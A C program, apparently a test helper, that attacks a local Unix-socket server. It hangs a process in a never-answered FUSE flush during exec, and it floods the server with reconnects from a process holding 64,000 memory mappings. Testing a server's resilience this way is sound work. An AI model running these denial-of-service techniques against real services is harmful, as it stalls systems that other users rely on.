/* Attacks of a user without any client: intruder MANNER SOCKET [FOLDER]
 *
 *   hang    connects and executes another program, which the kernel delays for ever: it closes a
 *           close-on-exec file of a file system of the user's own (in FOLDER) that never answers
 *   crowd   a process with 64,000 mappings that connects again and again
 *
 * Says "ready" when it is under way. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { kMappings = 64000, kPage = 4096, kFile = 2, kRequest = 1 << 17 };

static void fail(const char* what) {
    printf("%s: %s\n", what, strerror(errno));
    fflush(stdout);
    exit(EXIT_FAILURE);
}

static int connectTo(const char* path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    const int connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connection < 0 || connect(connection, (struct sockaddr*)&address, sizeof address) != 0) {
        fail("connect");
    }
    return connection;
}

static void writeText(const char* path, const char* text) {
    const int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0 || write(file, text, strlen(text)) != (ssize_t)strlen(text)) {
        fail(path);
    }
    close(file);
}

static void reply(int fuse, uint64_t unique, int error, const void* body, size_t size) {
    char bytes[sizeof(struct fuse_out_header) + 256];
    const struct fuse_out_header header = {
        .len = (uint32_t)(sizeof header + size), .error = error, .unique = unique};
    memcpy(bytes, &header, sizeof header);
    if (size != 0) {
        memcpy(bytes + sizeof header, body, size);
    }
    if (write(fuse, bytes, header.len) < 0) {
        _exit(EXIT_FAILURE);
    }
}

static struct fuse_attr attributesOf(uint64_t node) {
    const struct fuse_attr attributes = {
        .ino = node, .mode = node == kFile ? S_IFREG | 0644 : S_IFDIR | 0755, .nlink = 1};
    return attributes;
}

/* Serves one file, which can be opened and is never closed. */
static void serve(int fuse) {
    static char request[kRequest];
    while (read(fuse, request, sizeof request) >= (ssize_t)sizeof(struct fuse_in_header)) {
        struct fuse_in_header header;
        memcpy(&header, request, sizeof header);
        switch (header.opcode) {
        case FUSE_INIT: {
            const struct fuse_init_out answer = {
                .major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = kPage};
            reply(fuse, header.unique, 0, &answer, sizeof answer);
            break;
        }
        case FUSE_LOOKUP: {
            const struct fuse_entry_out answer = {.nodeid = kFile, .attr = attributesOf(kFile)};
            reply(fuse, header.unique, 0, &answer, sizeof answer);
            break;
        }
        case FUSE_GETATTR: {
            const struct fuse_attr_out answer = {.attr = attributesOf(header.nodeid)};
            reply(fuse, header.unique, 0, &answer, sizeof answer);
            break;
        }
        case FUSE_OPEN: {
            const struct fuse_open_out answer = {.fh = 1};
            reply(fuse, header.unique, 0, &answer, sizeof answer);
            break;
        }
        case FUSE_FLUSH:
            break; /* never answered */
        default:
            reply(fuse, header.unique, -ENOSYS, NULL, 0);
        }
    }
    _exit(EXIT_SUCCESS);
}

static void hang(const char* socketPath, const char* folder) {
    char map[64];
    char options[128];
    char file[256];
    const uid_t user = getuid();
    const gid_t group = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        fail("unshare");
    }
    snprintf(map, sizeof map, "0 %u 1", user);
    writeText("/proc/self/uid_map", map);
    writeText("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", group);
    writeText("/proc/self/gid_map", map);
    const int fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
    if (fuse < 0 || mount("intruder", folder, "fuse", 0, options) != 0) {
        fail("mount");
    }
    const pid_t parent = getpid();
    const pid_t server = fork();
    if (server == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        if (getppid() == parent) {
            serve(fuse);
        }
        _exit(EXIT_SUCCESS);
    }
    snprintf(file, sizeof file, "%s/file", folder);
    if (server < 0 || open(file, O_RDONLY | O_CLOEXEC) < 0) {
        fail(file);
    }
    connectTo(socketPath);
    puts("ready");
    fflush(stdout);
    execl("/bin/sleep", "sleep", "60", NULL);
    fail("exec");
}

static void crowd(const char* socketPath) {
    for (int i = 0; i < kMappings; ++i) { /* two neighbours of the same rights become one */
        const int rights = i % 2 == 0 ? PROT_READ : PROT_READ | PROT_EXEC;
        if (mmap(NULL, kPage, rights, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED) {
            fail("mmap");
        }
    }
    puts("ready");
    fflush(stdout);
    for (;;) {
        char byte = 0;
        const int connection = connectTo(socketPath);
        if (read(connection, &byte, 1) < 0 && errno != ECONNRESET) {
            fail("read");
        }
        close(connection);
    }
}

int main(int count, char** arguments) {
    if (count == 4 && strcmp(arguments[1], "hang") == 0) {
        hang(arguments[2], arguments[3]);
    } else if (count == 3 && strcmp(arguments[1], "crowd") == 0) {
        crowd(arguments[2]);
    }
    return EXIT_FAILURE;
}
